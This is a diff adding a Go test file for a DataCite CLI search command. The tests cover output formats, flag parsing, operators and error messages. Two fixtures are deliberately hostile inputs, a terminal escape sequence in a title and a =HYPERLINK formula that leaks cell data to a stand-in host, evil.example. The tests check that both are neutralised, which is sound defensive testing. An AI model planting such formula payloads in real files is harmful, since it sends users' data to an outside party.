@@ -1,0 +1,150 @@
+package search_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/datacite-go/datacite-go/cmd/datacite/internal/search"
+	"github.com/datacite-go/datacite-go/cmd/datacite/internal/shell/shelltest"
+	"github.com/datacite-go/datacite-go/datacitetest"
+	"github.com/datacite-go/datacite-go/metadata/table"
+)
+
+func service(t *testing.T) *datacitetest.Server {
+	t.Helper()
+	srv := datacitetest.NewServer(nil)
+	t.Cleanup(srv.Close)
+	for _, record := range []string{
+		`{"doi":"10.5072/length","created":"2020-01-01","publicationYear":2020,"citationCount":3,"titles":[{"title":"Glacier length"}],
+			"creators":[{"name":"Lovelace, Ada"},{"name":"Hopper, Grace"}],"types":{"resourceTypeGeneral":"Dataset"},"publisher":"Ice Archive"}`,
+		`{"doi":"10.5072/area","created":"2021-01-01","publicationYear":2021,"citationCount":8,"titles":[{"title":"Glacier area, \"raw\""}],
+			"types":{"resourceTypeGeneral":"Dataset"}}`,
+		`{"doi":"10.5072/evil","created":"2022-01-01","titles":[{"title":"Red \u001b[31m\nalert"}],"types":{"resourceTypeGeneral":"Software"}}`,
+	} {
+		require.NoError(t, srv.PutRecordJSON([]byte(record)))
+	}
+	return srv
+}
+
+// find runs the command and returns what it prints.
+func find(t *testing.T, srv *datacitetest.Server, args ...string) (code int, out, notes string) {
+	t.Helper()
+	return shelltest.Anonymous(srv).Do(t, search.Command, append([]string{"search"}, args...)...)
+}
+
+func TestTable(t *testing.T) {
+	srv := service(t)
+	code, out, notes := find(t, srv, "--sort", "-citation-count", "glacier")
+	assert.Zero(t, code)
+	assert.Equal(t, "DOI\tYEAR\tTYPE\tCITED\tCREATORS\tTITLE\n"+
+		"10.5072/area\t2021\tDataset\t8\t\tGlacier area, \"raw\"\n"+
+		"10.5072/length\t2020\tDataset\t3\tLovelace, Ada; Hopper, Grace\tGlacier length\n", out)
+	assert.Regexp(t, `^2 of 2 records at 127\.0\.0\.1:\d+\n$`, notes)
+
+	_, out, _ = find(t, srv, "--type", "software")
+	assert.NotContains(t, out, "\x1b", "what controls a terminal")
+	assert.Contains(t, out, "Red [31m alert\n")
+}
+
+func TestJSONLines(t *testing.T) {
+	srv := service(t)
+	code, out, notes := find(t, srv, "--json", "--all")
+	assert.Zero(t, code)
+	assert.Contains(t, notes, "3 of 3 records at ")
+	lines := strings.Split(strings.TrimSpace(out), "\n")
+	require.Len(t, lines, 3)
+	assert.Contains(t, lines[0], `"doi":"10.5072/length"`)
+
+	_, out, notes = find(t, srv, "--quiet", "--format", "json", "glacier")
+	assert.Equal(t, 2, strings.Count(out, "\n"), "records were asked for")
+	assert.Empty(t, notes)
+}
+
+// Flags may come after the query, with words on both sides of them.
+func TestFlagsAfterTheQuery(t *testing.T) {
+	srv := service(t)
+	_, out, notes := find(t, srv, "glacier", "--limit", "1", "--json", "area")
+	assert.Contains(t, out, "10.5072/area")
+	assert.Contains(t, notes, "1 of 2 records at ")
+	_, out, _ = find(t, srv, "--json", "glacier", "--", "-area")
+	assert.NotContains(t, out, "10.5072/area", "what comes after -- is the query's")
+	assert.Contains(t, out, "10.5072/length")
+}
+
+// The tables are those that other commands read, and a stranger's title is no formula of whoever
+// opens one.
+func TestTablesForOthers(t *testing.T) {
+	srv := service(t)
+	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
+	_, out, notes := find(t, srv, "--format", "csv", "doi:*formula")
+	assert.Contains(t, out, `"'=HYPERLINK(""https://evil.example/?""&A1)"`)
+	assert.Contains(t, notes, "2 cells could be taken for a formula by a spreadsheet program, and got an apostrophe in front")
+	for _, name := range []string{"a.csv", "a.XLSX"} {
+		path := filepath.Join(t.TempDir(), name)
+		code, out, notes := find(t, srv, "doi:*formula", "-o", path)
+		require.Zero(t, code, notes)
+		assert.Empty(t, out)
+		file, err := os.Open(path)
+		require.NoError(t, err)
+		defer file.Close()
+		r, err := table.NewReader(name, file, &table.Options{Others: []string{"citations", "views", "downloads"}, Partial: true})
+		require.NoError(t, err)
+		for row, err := range r.All() {
+			require.NoError(t, err)
+			assert.Equal(t, `=HYPERLINK("https://evil.example/?"&A1)`, row.Record.Titles[0].Title, name)
+			assert.Equal(t, []string{"0", "0", "0"}, row.Others)
+		}
+	}
+}
+
+// The general types may be written as in the schema and as in the service.
+func TestTypes(t *testing.T) {
+	srv := service(t)
+	for _, name := range []string{"dataset", "Dataset", "journal-article,dataset", "JournalArticle,Dataset"} {
+		_, out, notes := find(t, srv, "--type", name, "--json")
+		assert.Equal(t, 2, strings.Count(out, "\n"), "%s: %s", name, notes)
+	}
+}
+
+func TestOperators(t *testing.T) {
+	srv := service(t)
+	for text, want := range map[string]int{"length area": 2, "+length area": 1, "length AND area": 0} {
+		_, out, _ := find(t, srv, "--json", text)
+		assert.Equal(t, want, strings.Count(out, "\n"), text)
+	}
+	_, out, _ := find(t, srv, "--json", "--and", "length area")
+	assert.Empty(t, out)
+}
+
+func TestFaults(t *testing.T) {
+	srv := service(t)
+	for _, tt := range []struct {
+		args []string
+		code int
+		says string
+	}{
+		{[]string{"--format", "xml"}, 2, `--format: "xml" is not one of table, csv, xlsx, json; "datacite search --help" shows the flags`},
+		{[]string{`ice "open`}, 2, "\n  ice \"open\n      ^"},
+		{[]string{"--limit", "1001"}, 2, "--limit is 1001, not between 1 and 1000; --all prints all records"},
+		{[]string{"--limit", "0"}, 2, "--limit is 0"},
+		{[]string{"--all", "glacier", "--limit", "5"}, 2, "leave one of them out"},
+		{[]string{"--all", "--sort", "name"}, 2, "--all has an order of its own"},
+		{[]string{"--and"}, 2, "--and has no effect without a query"},
+		{[]string{"--sort", "newest"}, 2, `--sort: "newest" is not one of name, created, updated`},
+		{[]string{"--sort", "-relevance"}, 2, `--sort: "-relevance" is unknown; did you mean relevance?`},
+		{[]string{"--type", "datset"}, 2, `--type: "datset" is unknown; did you mean dataset?`},
+		{[]string{"--json", "--format", "csv"}, 2, "--json prints JSON, and --format csv something else"},
+		{[]string{"--created", "soon"}, 2, "soon"},
+		{[]string{"--service", "http://127.0.0.1:1", "glacier"}, 3, "connection refused"},
+	} {
+		code, out, notes := find(t, srv, tt.args...)
+		assert.Equal(t, tt.code, code, "%v: %s", tt.args, notes)
+		assert.Empty(t, strings.TrimPrefix(out, "DOI\tYEAR\tTYPE\tCITED\tCREATORS\tTITLE\n"))
+		assert.Contains(t, notes, tt.says)
+	}
+}
